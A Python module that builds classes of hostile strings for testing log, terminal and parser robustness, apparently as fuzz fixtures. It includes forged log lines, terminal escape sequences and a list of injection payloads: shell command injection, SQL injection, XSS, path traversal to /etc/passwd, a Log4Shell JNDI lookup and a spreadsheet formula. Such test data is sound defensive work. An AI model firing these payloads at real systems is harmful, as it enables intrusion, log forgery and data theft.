"""Strings that break logs, terminals, parsers and readers of logs, made class by class.

``CLASSES`` has them by class; ``STRINGS`` all of them, each once. None is copied from a list: each
class is a rule, and its strings are what the rule gives.
"""

from __future__ import annotations

from itertools import product

FORGED = "2026-11-30T00:00:00Z [info     ] stopped"
FORGED_JSON = '{"timestamp": "2026-11-30T00:00:00Z", "level": "info", "event": "stopped"}'
ENDS_OF_LINES = (
    "\n", "\r", "\r\n", "\n\r", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029",
)  # fmt: skip
TURNING = [chr(code) for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))]
MARKS_OF_DIRECTION = ["\u200e", "\u200f", "\u061c"]
INVISIBLE = [
    chr(code)
    for code in (
        0x00AD, 0x034F, 0x115F, 0x1160, 0x17B4, 0x180E, 0x200B, 0x200C, 0x200D, 0x2060, 0x2061,
        0x2062, 0x2063, 0x2064, *range(0x206A, 0x2070), 0x3164, 0xFE00, 0xFE0F, 0xFEFF, 0xFFA0,
        0xFFF9, 0xFFFA, 0xFFFB, 0xE0001, 0xE0020, 0xE007F, 0xE0100,
    )
]  # fmt: skip
SPACES = [
    chr(c) for c in (0x20, 0xA0, 0x1680, *range(0x2000, 0x200B), 0x202F, 0x205F, 0x2800, 0x3000)
]
ESCAPES = [
    begin + rest
    for begin, rest in product(
        ("\x1b[", "\x9b"),
        ("2J", "H", "31m", "0m", "1;1H", "1A", "2K", "?25l", "?1049h", "6n", "c", "5i", "8;1;1t"),
    )
] + [
    begin + rest + end
    for begin, (rest, end) in product(
        ("\x1b]", "\x9d"),
        product(
            ("0;title", "8;;http://x.test/", "52;c;eHh4", "4;1;?", "1337;File=:AA=="),
            ("\x07", "\x1b\\", "\x9c", ""),
        ),
    )
] + [f"\x1b{c}" for c in "78=>cDEHMNOPXZ^_|}~n(#%"] + ["\x1bP+q544e\x1b\\", "\x90$q\x9c"]  # fmt: skip
QUOTES = ['"', "'", "\\", '\\"', "'\"", "`", "\u201d", "\uff02", '"}', '", "level": "error', "\\u000a", "\\n"]  # fmt: skip
CODE = [
    "%s%s%s%n", "%d", "%(event)s", "%", "{}", "{0}", "{event}", "{__class__}", "${HOME}", "$(reboot)",
    "`reboot`", "; reboot", "| reboot", "&& reboot", "> /etc/motd", "'; DROP TABLE articles; --",
    "1 OR 1=1", "' UNION SELECT 1 --", "<script>alert(1)</script>", "]]>", "<!--", "<?xml?>", "&lt;",
    "&#10;", "../../etc/passwd", "file:///etc/passwd", "javascript:alert(1)", "${jndi:ldap://x.test/a}",
    "{{7*7}}", "#{7*7}", "=cmd|' /C calc'!A0", "@SUM(1)", "+1", "-1", "null", "None", "NaN", "Infinity",
    "true", "[]", "{}", "0x1F", "1e309", "-0", "0" * 60, "9" * 60, "CON", "aux.txt", ".", "..", "~", "",
    "event=polled outcome=new", "a=b", "[error    ] x", "<0>panic", "<4>", "MESSAGE=x", "-- Boot --",
]  # fmt: skip
WRITING = [
    "\u0627\u0644\u0645\u0627\u0621", "\u0648\u064e\u0642\u064e\u0651\u0639", "\ufdfa", "\ufdfd" * 9,
    "\u05e9\u05dc\u05d5\u05dd 123 abc", "abc \u0627\u0644\u0639\u0631\u0627\u0642 42 = [x]",
    "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645", "\u0e01\u0e33\u0e49", "\u0f3c\u0f3d", "\u1100\u1161\u11a8",
    "\u65e5\u672c\u8a9e", "\ud55c\uad6d\uc5b4", "\uff34\uff45\uff58\uff54", "\u0441\u0430\u0445\u0430\u0440", "\U0001d413\U0001d41e",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\U0001f3f4\U000e0067\U000e0062\U000e007f",
    "\U0001f1f2\U0001f1e6", "\U0001f44d\U0001f3ff", "1\ufe0f\u20e3", "\u2603\ufe0e", "\u0130\u0131\u017f\u1e9e\u00df",
]  # fmt: skip
FLOODS = [base + mark * 200 for base, mark in product(("a", "\u0627", "", "\""), ("\u0301", "\u0489", "\u064b", "\u20dd", "\u0f7e"))]  # fmt: skip
LONG = [
    piece * count
    for piece, count in product(("x", " ", "\u0627", "\U0001f642", '"', "\\", "\n", "\x1b"), (3_000, 40_000))
] + [" " * 49_152 + FORGED, "=" * 16_384 + FORGED]  # fmt: skip
NOT_TEXT = [
    bytes_.decode("utf-8", "surrogateescape")
    for bytes_ in (
        b"\x80", b"\xff", b"\xfe\xff", b"\xff\xfe\x00\x00", b"\xc0\x80", b"\xc3", b"\xe2\x80", b"\xed\xa0\x80",
        b"\xf0\x9f\x99", b"\xf8\x88\x80\x80\x80", b"ok \xe9t\xe9", b"\xc7\xe1\xe3\xc7\xc1", b"\x1b\xff[2J", b"\n\xff\n",
    )
] + ["\ud800", "\udbff", "\udc00", "\udfff", "\udc00\ud800", "a\ud83dz", "\ud83d\n\ude42"]  # fmt: skip
NO_CHARACTERS = [chr(c) for c in (0xFDD0, 0xFDEF, 0xFFFE, 0xFFFF, 0x1FFFE, 0x10FFFF, 0xE000, 0xF8FF, 0xF0000, 0x10FFFD, 0x0378)]  # fmt: skip

CLASSES: dict[str, list[str]] = {
    "C0 and DEL, bare and inside": [
        text for c in (*range(0x20), 0x7F) for text in (chr(c), f"a{chr(c)}b")
    ],
    "C1, bare and inside": [text for c in range(0x80, 0xA0) for text in (chr(c), f"a{chr(c)}b")],
    "an end of line, then a forged line": [
        f"x{end}{forged}" for end, forged in product(ENDS_OF_LINES, (FORGED, FORGED_JSON))
    ],
    "ends of lines around": [f"{end}x{end}{end}" for end in ENDS_OF_LINES],
    "escape sequences": ESCAPES,
    "bidi embeddings, overrides, isolates": [
        text
        for turn in TURNING
        for text in (turn, f"{turn}gpj.exe", f"\u0627{turn}b", f"x {turn} outcome=new")
    ],
    "marks of direction": [
        text for m in MARKS_OF_DIRECTION for text in (m, f"{m}1 2", f"a{m}\u0627")
    ],
    "invisible characters": [text for c in INVISIBLE for text in (c, f"a{c}b")],
    "spaces": [text for s in SPACES for text in (s * 3, f"a{s}outcome=new", f"{s}a")],
    "quotes and backslashes": [text for q in QUOTES for text in (q, f"a{q}b", q * 3)],
    "code, formats, numbers, words of ours": CODE,
    "writing systems, ligatures, emoji": WRITING,
    "combining floods": FLOODS,
    "very long": LONG,
    "halves of pairs, bytes that are no UTF-8": NOT_TEXT,
    "no characters, private use": NO_CHARACTERS,
}
STRINGS = list(dict.fromkeys(text for texts in CLASSES.values() for text in texts))
